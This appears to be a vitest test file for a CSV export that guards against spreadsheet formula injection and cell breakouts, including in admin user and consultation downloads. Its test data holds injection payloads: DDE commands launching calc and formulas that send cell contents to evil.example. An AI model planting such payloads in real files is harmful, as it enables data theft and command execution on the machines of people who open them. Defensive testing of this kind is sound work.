import { text } from 'node:stream/consumers';
import { stringify } from 'csv-stringify/sync';
import { afterAll, expect, test } from 'vitest';
import { readCsv } from '../testing/read-csv.ts';
import { newWorld } from '../testing/world.ts';
import { csvOf } from './csv.ts';

const world = await newWorld();
afterAll(world.end);

const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"Open")',
  '=IMPORTXML("https://evil.example","//a")',
  '=WEBSERVICE("https://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  '=2+5+cmd|calc!A',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '+90 232 555 0100',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|calc!A',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '=1\r\n=2',
  '=1","=2',
  '="x"\n="y"',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
];

/** What would end a cell or a line and begin another. */
const breakouts = [
  'x",=1+1',
  'x"\r\n=1+1',
  'x\r\n=1+1',
  'x\n"=1+1"',
  '",',
  '"',
  '""=1+1',
  "x',=1+1",
  '\\",=1',
];

const isFormula = (cell: string) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell);
const cellsOf = (csv: string) => readCsv(csv.replace(/^\ufeff/, '')).slice(1);

test('no cell begins a formula, and none ends before its end', async () => {
  const texts = [...formulas, ...breakouts];
  const columns = { One: (cell: string) => cell, Two: (cell: string) => cell };
  const csv = await text(csvOf(columns, async () => ({ rows: texts, next: undefined })));
  const records = cellsOf(csv);
  expect(records.flat().filter(isFormula)).toEqual([]);
  expect(records.map(([cell]) => cell)).toEqual(texts.map((cell) => (isFormula(cell) ? `'${cell}` : cell)));
  expect(records.map((record) => record.length)).toEqual(texts.map(() => 2));
});

test('a writer without the guard is found out by every formula', () => {
  const careless = stringify([['One'], ...formulas.map((cell) => [cell])], {
    record_delimiter: '\r\n',
    quoted: true,
  });
  expect(cellsOf(careless).flat().filter(isFormula)).toEqual(formulas);
});

test('nor does any cell of what an admin downloads, whatever people are called and ask', async () => {
  const admin = await world.admin();
  for (const formula of formulas.filter((one) => one.trim() === one)) {
    const client = await world.client({ name: formula, phone: formula });
    await world.call(client, 'POST', '/companies', { name: formula, address: formula });
    const { id } = await world.consultation(client, { topic: formula });
    const asked = { problem_details: `<p>${formula}</p>` };
    expect((await world.call(client, 'PUT', `/consultations/${id}`, asked)).statusCode).toBe(200);
    await world.call(client, 'PUT', `/consultations/${id}/status`, { status: 'canceled', reason: formula });
  }
  for (const [list, guarded] of [
    ['users', 3],
    ['consultations', 4],
  ] as const) {
    const records = cellsOf((await world.call(admin, 'GET', `/${list}/csv`)).body);
    expect(records.flat().filter(isFormula)).toEqual([]);
    const widest = Math.max(
      ...records.map((record) => record.filter((cell) => isFormula(cell.slice(1))).length),
    );
    expect(widest).toBeGreaterThanOrEqual(guarded);
  }
});
